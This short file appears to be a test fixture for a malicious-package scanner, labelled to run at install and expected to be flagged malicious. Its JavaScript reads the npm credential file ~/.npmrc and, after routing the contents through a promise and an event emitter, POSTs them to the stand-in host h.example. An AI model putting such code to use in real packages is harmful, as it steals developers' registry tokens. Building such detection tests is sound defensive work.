// when: install
// expect: malicious
// The token travels through a promise and an event before it is sent.
const fs = require('fs'), os = require('os'), https = require('https'), EventEmitter = require('events');
const bus = new EventEmitter();
bus.on('ready', (data) => { https.request({ hostname: 'h.example', method: 'POST' }).end(data); });
const p = new Promise((resolve) => resolve(fs.readFileSync(os.homedir() + '/.npmrc', 'utf8')));
p.then((t) => bus.emit('ready', t));
